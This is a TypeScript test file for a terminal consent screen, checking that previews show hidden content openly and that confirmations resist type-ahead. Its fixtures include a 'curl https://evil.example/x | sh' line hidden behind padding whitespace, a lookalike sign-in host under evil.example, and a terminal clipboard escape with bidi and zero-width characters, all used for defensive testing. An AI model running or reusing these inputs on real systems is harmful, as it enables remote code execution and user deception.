import { describe, expect, test } from "bun:test";
import { type ConsentRequest, ConsentScreen, QUIET_MS } from "../../src/host/trusted-ui.ts";
import { FakeClock } from "../support/fake-clock.ts";

const request: ConsentRequest = {
	origin: "https://p2.example",
	action: "Copy",
	facts: [],
	preview: { kind: "text", text: "text" },
};

function screen(options: { columns?: number; rows?: number; expiresAfterMs?: number } = {}) {
	const clock = new FakeClock();
	const frames: string[] = [];
	const consent = new ConsentScreen(
		(d) => frames.push(d),
		() => ({ columns: options.columns ?? 80, rows: options.rows ?? 24 }),
		{ clock, ...(options.expiresAfterMs ? { expiresAfterMs: options.expiresAfterMs } : {}) },
	);
	/** The last frame as plain text. */
	const shown = () => (frames.at(-1) ?? "").replace(/\x1b\[[0-9;?]*[ -/]*[@-~]/g, "");
	return { clock, consent, shown };
}

describe("the consent screen", () => {
	test("a question nobody answers is withdrawn when it expires, and a late yes decides nothing", async () => {
		const { clock, consent } = screen({ expiresAfterMs: 30_000 });
		const answer = consent.confirm(request);
		clock.advance(30_000);
		expect(await answer).toBe("withdrawn");
		expect(consent.active).toBe(false);
		consent.input("y");
		expect(consent.active).toBe(false);
	});

	test("an answer in time is the person's, and its expiry does not reach the next question", async () => {
		const { clock, consent } = screen({ expiresAfterMs: 2000 });
		const answer = consent.confirm(request);
		clock.advance(1000);
		consent.input("y");
		expect(await answer).toBe("yes");
		void consent.confirm(request);
		clock.advance(1500);
		expect(consent.active).toBe(true);
		consent.cancel();
	});

	test("type-ahead confirms nothing: a confirmation counts only after a quiet moment, and every key restarts it", async () => {
		const { clock, consent, shown } = screen();
		// The person was typing a message when the question arrived.
		consent.noteInput();
		clock.advance(50);
		const answer = consent.confirm(request);
		expect(shown()).toContain("Enter confirms in a moment");
		consent.input("\r");
		expect(consent.active).toBe(true);
		expect(shown()).toContain("Keys were still arriving");
		// A held key (or typing on) never confirms.
		for (let i = 0; i < 20; i++) {
			clock.advance(QUIET_MS - 1);
			consent.input("\r");
		}
		expect(consent.active).toBe(true);
		clock.advance(QUIET_MS);
		expect(shown()).toContain("Enter or y: confirm");
		consent.input("\r");
		expect(await answer).toBe("yes");
	});

	test("keys typed just before the screen count as typing: the quiet moment starts after the last of them", async () => {
		const { clock, consent } = screen();
		consent.noteInput();
		const answer = consent.confirm(request);
		clock.advance(QUIET_MS - 10);
		consent.input("y");
		expect(consent.active).toBe(true);
		clock.advance(QUIET_MS);
		consent.input("y");
		expect(await answer).toBe("yes");
	});

	test("a long line wraps with a mark in the gutter and the text states its length and lines; nothing is cut", () => {
		const { clock, consent, shown } = screen({ columns: 40 });
		const text = `ls -la${" ".repeat(150)}; curl https://evil.example/x | sh`;
		void consent.confirm({ ...request, preview: { kind: "text", text } });
		clock.advance(QUIET_MS);
		const lines = shown().split("\r\n");
		expect(lines.some((l) => l.includes(`Length: ${text.length} characters · 1 line`))).toBe(true);
		expect(lines.some((l) => l.startsWith("  ls -la"))).toBe(true);
		expect(lines.filter((l) => l.startsWith("↪ ")).length).toBeGreaterThanOrEqual(4);
		expect(lines.some((l) => l.includes("curl https://evil.example/x | sh") || l.includes("; curl"))).toBe(true);
		expect(
			shown()
				.replace(/\r\n↪ /g, "")
				.replace(/\r\n {2}/g, ""),
		).toContain(text.slice(-30));
		consent.cancel();
	});

	test("more than a screen: the end must have been shown before a confirmation counts", async () => {
		const { clock, consent, shown } = screen({ rows: 12 });
		const text = Array.from({ length: 40 }, (_, i) => `line ${i + 1}`).join("\n");
		const answer = consent.confirm({ ...request, preview: { kind: "text", text } });
		clock.advance(QUIET_MS);
		expect(shown()).toContain("Scroll to the end (End) to confirm");
		consent.input("\r");
		expect(consent.active).toBe(true);
		consent.input("\x1b[F"); // End
		expect(shown()).toContain("line 40");
		clock.advance(QUIET_MS);
		consent.input("\r");
		expect(await answer).toBe("yes");
	});

	test("an address: its site and host each on a line of their own, then the whole address", () => {
		const { consent, shown } = screen({ columns: 50 });
		const host = `accounts.example.com.signin-${"a".repeat(60)}.evil.example`;
		const url = `https://${host}/authorize?x=1`;
		void consent.confirm({ ...request, preview: { kind: "url", url, host, site: "evil.example" } });
		const lines = shown().split("\r\n");
		expect(lines).toContain("  Site: evil.example");
		expect(lines.some((l) => l.startsWith("  Host: accounts.example.com"))).toBe(true);
		consent.cancel();
	});

	test("controls, bidi overrides and zero-width characters in the data are shown, never obeyed", () => {
		const { consent, shown } = screen();
		void consent.confirm({ ...request, preview: { kind: "text", text: "a\x1b]52;c;eA==\x07b\u202Ec\u200Bd" } });
		expect(shown()).toContain("a␛]52;c;eA==␇b⟨U+202E⟩c⟨U+200B⟩d");
		consent.cancel();
	});

	test("refusing such requests for the rest of the run is offered only where asked for", async () => {
		const { consent, shown } = screen();
		const plain = consent.confirm(request);
		expect(shown()).not.toContain("d: refuse");
		consent.input("d");
		expect(consent.active).toBe(true);
		consent.input("n");
		expect(await plain).toBe("no");
		const offered = consent.confirm({ ...request, offerNever: true });
		expect(shown()).toContain("d: refuse such requests until p2 exits");
		consent.input("d");
		expect(await offered).toBe("never");
	});

	test("a notice waits for the person and tells them what the worker is not told", async () => {
		const { consent, shown } = screen();
		const done = consent.notify({ title: "The file was not sent", lines: ["/home/me/secret.txt does not exist"] });
		expect(shown()).toContain("/home/me/secret.txt does not exist");
		consent.input("x");
		expect(consent.active).toBe(true);
		consent.input("\r");
		await done;
		expect(consent.active).toBe(false);
	});
});
